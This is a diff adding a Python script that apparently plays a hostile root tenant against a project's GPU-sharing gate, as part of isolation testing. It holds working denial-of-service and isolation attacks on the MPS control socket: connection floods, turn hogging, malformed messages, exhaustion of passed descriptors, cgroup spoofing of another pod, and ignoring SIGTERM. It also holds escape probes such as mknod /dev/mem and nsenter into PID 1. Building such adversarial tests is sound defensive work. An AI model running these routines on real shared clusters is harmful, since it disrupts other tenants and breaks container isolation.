@@ -1,0 +1,270 @@
+"""What a hostile root tenant runs in its pod: `python -c PROGRAM ATTACK [ARGUMENT]`, in gpushare's image.
+
+It is no part of the image: a pod's command carries it as text. Each line that it prints begins with its attack.
+"""
+
+import array
+import contextlib
+import ctypes
+import json
+import os
+import signal
+import socket
+import subprocess
+import sys
+import time
+from collections.abc import Callable
+from pathlib import Path
+
+from gpushare.twin.contention import WORKLOADS
+from gpushare.twin.mps import tenant
+from gpushare.twin.mps.client import (
+    COMPUTE_TYPE,
+    CREDENTIALS,
+    MAX_PACKET,
+    CudaError,
+    NoMpsError,
+    TwinContext,
+    connect,
+    control_path,
+    request_server,
+)
+
+ATTACK = sys.argv[1] if len(sys.argv) > 1 else ""
+ARGUMENT = sys.argv[2] if len(sys.argv) > 2 else ""
+WORKLOAD = WORKLOADS["montecarlo-fp32"]
+# The gate's time-out for a turn without progress is 8 s.
+JUST_BEFORE_THE_TIMEOUT = 7.5
+DESCRIPTORS_OF_A_MESSAGE = 253  # the kernel's SCM_MAX_FD
+MOST_IN_FLIGHT = 1_200_000  # more than a process may usually have open
+
+
+def say(text: str) -> None:
+    sys.stdout.write(f"{ATTACK}: {text}\n")
+    sys.stdout.flush()
+
+
+def fork(body: Callable[[], object]) -> int:
+    pid = os.fork()
+    if pid == 0:
+        with contextlib.suppress(KeyboardInterrupt):
+            body()
+        os._exit(0)
+    return pid
+
+
+def forever() -> None:
+    while True:
+        time.sleep(1)
+
+
+def flood() -> None:
+    """Connect in a loop from so many processes, every other one keeping what it opens."""
+
+    def loop(keeps: bool) -> None:
+        kept: list[socket.socket] = []
+        while True:
+            try:
+                one = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
+                one.connect(str(control_path(os.environ)))
+            except OSError:
+                time.sleep(0.05)
+                continue
+            if keeps and len(kept) < 800:
+                kept.append(one)
+            else:
+                one.close()
+
+    for number in range(int(ARGUMENT)):
+        fork(lambda number=number: loop(number % 2 == 1))
+    say("begun")
+    forever()
+
+
+def waste() -> None:
+    """Take the turn as a client does, sit until just before the time-out and exit; again and again."""
+
+    def sit() -> None:
+        with contextlib.suppress(NoMpsError), request_server(control_path(os.environ)):
+            say("has the turn")
+            time.sleep(JUST_BEFORE_THE_TIMEOUT)
+
+    running = {fork(sit) for _ in range(int(ARGUMENT))}
+    while True:
+        pid, _ = os.wait()
+        running.discard(pid)
+        running.add(fork(sit))
+
+
+def beyond() -> None:
+    """Say what the protocol does not know: in place of the last word, and in place of the first."""
+
+    def rights(count: int) -> list[tuple[int, int, bytes]]:
+        return [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [1] * count).tobytes())]
+
+    def after(words: list[bytes], message: bytes, descriptors: int) -> socket.socket:
+        connection = connect(control_path(os.environ))
+        for word in words:
+            connection.send(word)
+        if words:
+            connection.recvmsg(MAX_PACKET, socket.CMSG_SPACE(4))
+        connection.sendmsg([message], rights(descriptors) if descriptors else [])
+        return connection
+
+    def answered(connection: socket.socket) -> str:
+        try:
+            return "closed" if not connection.recv(MAX_PACKET) else "answered"
+        except OSError:
+            return "closed"
+
+    for message, descriptors in ((b"x" * 60_000, 0), (bytes(4), 3), (CREDENTIALS, 0)):
+        with after([CREDENTIALS, COMPUTE_TYPE], message, descriptors) as connection:
+            say(f"{len(message)} bytes and {descriptors} descriptors after the answer: {answered(connection)}")
+    odd = [after([], message, count) for message, count in ((b"y" * 60_000, 0), (CREDENTIALS, 2))]
+    for connection in odd:
+        connection.settimeout(2)
+    say(f"odd first words: {', '.join('held' if waits(one) else 'closed' for one in odd)}")
+    forever()
+
+
+def waits(connection: socket.socket) -> bool:
+    """Whether the other side neither answers nor closes."""
+    try:
+        connection.recv(MAX_PACKET)
+    except TimeoutError:
+        return True
+    except OSError:
+        pass
+    return False
+
+
+def hand_on() -> None:
+    """Become a client, ask for the server's socket again and again, and hand each on to a process of its own."""
+    context = TwinContext(os.environ, WORKLOAD)
+    say(f"own sms={context.attached.sm_count}")
+
+    def use(server: socket.socket) -> None:
+        fields = {"workload": WORKLOAD.name, "counters": WORKLOAD.solo.as_dict(), "percentage": 100.0}
+        more = {"iterations_per_s": WORKLOAD.iterations_per_s, "limit_mib": None}
+        server.send(json.dumps({"op": "attach", **fields, **more}).encode())
+        answer = json.loads(server.recv(MAX_PACKET))
+        say(f"handed on: {answer.get('event')} sms={answer.get('sms')}")
+        while server.recv(MAX_PACKET):
+            pass
+        say("handed on: gone")
+
+    children = []
+    for _ in range(int(ARGUMENT)):
+        server = request_server(control_path(os.environ))
+        children.append(fork(lambda server=server: use(server)))
+        server.close()
+    for pid in children:
+        _, status = os.waitpid(pid, 0)
+        say(f"child ended with {os.waitstatus_to_exitcode(status)}")
+    while True:
+        say(f"own progress={context.tick()['progress']:.3f}")
+
+
+def nested() -> None:
+    """Make a cgroup named like another pod's below the own one, move there, and connect."""
+    libc = ctypes.CDLL(None, use_errno=True)
+    moved = 0
+    for line in Path("/proc/self/cgroup").read_text().splitlines():
+        _, controllers, own = line.split(":", 2)
+        root = Path("/tmp/cgroups", controllers.replace("=", "_") or "unified")
+        root.mkdir(parents=True, exist_ok=True)
+        options = f"none,{controllers}" if controllers.startswith("name=") else controllers
+        kind = "cgroup" if controllers else "cgroup2"
+        if libc.mount(b"none", str(root).encode(), kind.encode(), 0, options.encode() or None):
+            say(f"{controllers or kind} cannot be mounted: {os.strerror(ctypes.get_errno())}")
+            continue
+        place = root / own.lstrip("/")
+        if not place.is_dir():  # in a cgroup namespace
+            place = root
+        for part in ("kubepods", f"pod{ARGUMENT}", "c"):
+            place /= part
+            try:
+                place.mkdir(exist_ok=True)
+                for file in ("cpuset.cpus", "cpuset.mems"):
+                    if (place / file).exists():
+                        (place / file).write_text((place.parent / file).read_text())
+            except OSError as error:
+                say(f"{controllers or kind}: {error}")
+                break
+        with contextlib.suppress(OSError):
+            (place / "cgroup.procs").write_text("0")
+            moved += 1
+    inside = [line for line in Path("/proc/self/cgroup").read_text().splitlines() if ARGUMENT in line]
+    say(f"moved in {moved}, named after the other pod in {len(inside)} hierarchies")
+    tenant.main(["--workload", WORKLOAD.name, "--memory-mib", "64"])
+
+
+def fill() -> None:
+    """Put descriptors into messages that nobody reads, as many as the kernel lets this user have in flight."""
+    rights = array.array("i", [0] * DESCRIPTORS_OF_A_MESSAGE).tobytes()
+    pairs: list[tuple[socket.socket, socket.socket]] = []
+    sent, refused = 0, ""
+    while not refused and sent < MOST_IN_FLIGHT:
+        pairs.append(socket.socketpair())
+        pairs[-1][0].setblocking(False)
+        while True:
+            try:
+                pairs[-1][0].sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, rights)])
+                sent += DESCRIPTORS_OF_A_MESSAGE
+            except BlockingIOError:
+                break
+            except OSError as error:
+                refused = error.strerror or str(error)
+                break
+    say(f"{sent} descriptors in flight, then: {refused or 'no end'}")
+    time.sleep(float(ARGUMENT))
+    for pair in pairs:
+        for one in pair:
+            one.close()
+    say("let go")
+    forever()
+
+
+def stay() -> None:
+    """Keep the GPU busy with matrix products, ignore SIGTERM, and start more processes once it came."""
+    told = []
+    signal.signal(signal.SIGTERM, lambda *_: told.append(True))
+    context = TwinContext(os.environ, WORKLOADS["gemm-fp16"])
+    context.allocate(64)
+    say(f"connected sms={context.attached.sm_count}")
+
+    def again() -> None:
+        try:
+            say(f"one more sms={TwinContext(os.environ, WORKLOAD).attached.sm_count}")
+        except (NoMpsError, CudaError) as error:
+            say(f"one more: {error}")
+
+    more = 0
+    while True:
+        say(f"progress={context.tick()['progress']:.3f} asked_to_end={bool(told)}")
+        if told and more < 2:
+            more = len([fork(again) for _ in range(2)])
+
+
+def look() -> None:
+    """What root can see and do that would lead past the gate."""
+    own = {int(entry.name) for entry in Path("/proc").iterdir() if entry.name.isdigit()}
+    say(f"{len(own)} processes")
+    for command in (
+        "mount -t tmpfs none /mnt",
+        "mount -o remount,rw $CUDA_MPS_PIPE_DIRECTORY",
+        "mkdir /sys/fs/cgroup/gpushare-test $(ls -d /sys/fs/cgroup/*/ | head -1)gpushare-test",
+        "mknod /dev/mem-too c 1 1 && head -c 1 /dev/mem-too",
+        "nsenter -t 1 -m -p true && test $(ls -d /proc/[0-9]* | wc -l) -gt 50",
+        "ls $CUDA_MPS_PIPE_DIRECTORY/../pipe",
+        "ls /run/gpushare/*/decisions.json",
+        "ls /var/lib/kubelet/device-plugins/kubelet.sock",
+    ):
+        done = subprocess.run(["sh", "-c", command], capture_output=True, check=False)
+        say(f"{'REFUSED' if done.returncode else 'DONE'} {command}")
+    say("looked")
+    forever()
+
+
+if __name__ == "__main__":
+    {each.__name__: each for each in (flood, waste, beyond, hand_on, nested, fill, stay, look)}[ATTACK]()
